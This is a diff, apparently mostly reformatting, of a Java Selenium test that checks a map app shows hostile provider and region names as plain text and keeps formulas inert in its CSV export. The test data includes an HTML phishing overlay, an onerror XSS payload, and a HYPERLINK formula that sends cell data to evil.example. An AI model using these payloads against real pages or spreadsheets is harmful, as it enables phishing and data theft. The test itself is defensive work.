@@ -16,16 +16,19 @@ import org.openqa.selenium.support.ui.ExpectedConditions;
 import org.openqa.selenium.support.ui.WebDriverWait;
 
 /**
- * Names that agencies and imports write are shown as text in every page, never as markup (map tooltips included,
- * which Leaflet would render as HTML), and a name that a spreadsheet would run as a formula stays text in the
- * staff page's CSV export. In headless Chromium.
+ * Names that agencies and imports write are shown as text in every page, never as markup (map
+ * tooltips included, which Leaflet would render as HTML), and a name that a spreadsheet would run
+ * as a formula stays text in the staff page's CSV export. In headless Chromium.
  */
 class HostileNamesBrowserTest {
   /** A phishing overlay and a script, as a provider's name. */
-  static final String PROVIDER_NAME = "<a id=phish href=https://evil.example style=position:fixed;inset:0>请重新登录</a>"
-      + "<img id=pwned src=x onerror=document.title='pwned'>";
+  static final String PROVIDER_NAME =
+      "<a id=phish href=https://evil.example style=position:fixed;inset:0>请重新登录</a>"
+          + "<img id=pwned src=x onerror=document.title='pwned'>";
+
   /** A spreadsheet formula and markup, as a region's name. */
-  static final String REGION_NAME = "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"详情\")<img id=pwned2 src=x>";
+  static final String REGION_NAME =
+      "=HYPERLINK(\"https://evil.example/?d=\"&A2,\"详情\")<img id=pwned2 src=x>";
 
   static TestServer s;
   static WebDriver browser;
@@ -33,18 +36,27 @@ class HostileNamesBrowserTest {
   @BeforeAll
   static void start() throws Exception {
     s = new TestServer(false);
-    String region = """
+    String region =
+        """
         {"type": "FeatureCollection", "features": [{"type": "Feature", "properties": {"name": %s},
          "geometry": {"type": "Polygon", "coordinates": [[[114.03, 22.52], [114.09, 22.52], [114.09, 22.57],
-         [114.03, 22.57], [114.03, 22.52]]]}}]}""".formatted(
-        org.linli.server.json.Json.write(org.linli.server.json.Json.MAPPER.getNodeFactory().textNode(REGION_NAME)));
-    TestServer.Answer imported = RegionsApiTest.importAs(s, s.adminToken, "level=district&nameProperty=name", region);
+         [114.03, 22.57], [114.03, 22.52]]]}}]}"""
+            .formatted(
+                org.linli.server.json.Json.write(
+                    org.linli.server.json.Json.MAPPER.getNodeFactory().textNode(REGION_NAME)));
+    TestServer.Answer imported =
+        RegionsApiTest.importAs(s, s.adminToken, "level=district&nameProperty=name", region);
     assertThat(imported.status()).as(imported.body()).isEqualTo(200);
-    String doc = Documents.worker("hostile", 22.5440, 114.0590).replace("\"王芳\"",
-        org.linli.server.json.Json.write(org.linli.server.json.Json.MAPPER.getNodeFactory().textNode(PROVIDER_NAME)))
-        .replace("\"activeCases\": 3", "\"activeCases\": 0");
+    String doc =
+        Documents.worker("hostile", 22.5440, 114.0590)
+            .replace(
+                "\"王芳\"",
+                org.linli.server.json.Json.write(
+                    org.linli.server.json.Json.MAPPER.getNodeFactory().textNode(PROVIDER_NAME)))
+            .replace("\"activeCases\": 3", "\"activeCases\": 0");
     assertThat(s.put("/api/v1/providers/hostile", doc).status()).isEqualTo(201);
-    assertThat(s.get("/api/v1/providers/hostile").json().get("name").asText()).as("stored as given")
+    assertThat(s.get("/api/v1/providers/hostile").json().get("name").asText())
+        .as("stored as given")
         .isEqualTo(PROVIDER_NAME);
     s.awaitIndexed("hostile");
     browser = Browsers.chromium();
@@ -61,14 +73,17 @@ class HostileNamesBrowserTest {
   /** Hovers {@code target} and answers the tooltip Leaflet opens for it. */
   private static WebElement hoverTooltip(WebElement target) {
     new Actions(browser).moveToElement(target).perform();
-    return Browsers.waitFor(browser).until(ExpectedConditions.visibilityOfElementLocated(
-        By.cssSelector(".leaflet-tooltip")));
+    return Browsers.waitFor(browser)
+        .until(ExpectedConditions.visibilityOfElementLocated(By.cssSelector(".leaflet-tooltip")));
   }
 
   @Test
   void residentMap_showsAProvidersHostileName_asText() {
-    browser.get("http://127.0.0.1:" + s.server.port() + "/resident/#token="
-        + s.token("r-hostile", Role.RESIDENT, null, null));
+    browser.get(
+        "http://127.0.0.1:"
+            + s.server.port()
+            + "/resident/#token="
+            + s.token("r-hostile", Role.RESIDENT, null, null));
     WebDriverWait wait = Browsers.waitFor(browser);
     try {
       wait.until(ExpectedConditions.attributeToBe(By.id("map"), "data-state", "ready"));
@@ -90,8 +105,11 @@ class HostileNamesBrowserTest {
   @Test
   void staffMap_showsAHostileRegionName_asText_andItsCsvCellStaysText() {
     browser.get("about:blank");
-    browser.get("http://127.0.0.1:" + s.server.port() + "/staff/#token="
-        + s.token("s-hostile", Role.STAFF, null, null));
+    browser.get(
+        "http://127.0.0.1:"
+            + s.server.port()
+            + "/staff/#token="
+            + s.token("s-hostile", Role.STAFF, null, null));
     WebDriverWait wait = Browsers.waitFor(browser);
     try {
       wait.until(ExpectedConditions.attributeToBe(By.id("map"), "data-state", "ready"));
@@ -105,11 +123,16 @@ class HostileNamesBrowserTest {
       js.executeScript("window.download = (name, type, content) => { window.__csv = content; };");
       browser.findElement(By.id("export-csv")).click();
       String csv = (String) js.executeScript("return window.__csv;");
-      assertThat(csv).contains(
-          "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"详情\"\")<img id=pwned2 src=x>\"");
+      assertThat(csv)
+          .contains(
+              "\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"详情\"\")<img id=pwned2 src=x>\"");
       assertThat(csv.lines().skip(1)).noneMatch(line -> line.matches("^(.*,)?\"?[=+@-].*"));
-      assertThat((String) js.executeScript("return csvCell('+1') + '|' + csvCell(-5) + '|' + csvCell('@x') + '|'"
-          + " + csvCell('a,b') + '|' + csvCell('\\tx');")).isEqualTo("'+1|-5|'@x|\"a,b\"|'\tx");
+      assertThat(
+              (String)
+                  js.executeScript(
+                      "return csvCell('+1') + '|' + csvCell(-5) + '|' + csvCell('@x') + '|'"
+                          + " + csvCell('a,b') + '|' + csvCell('\\tx');"))
+          .isEqualTo("'+1|-5|'@x|\"a,b\"|'\tx");
     } finally {
       Browsers.printConsole(browser);
     }
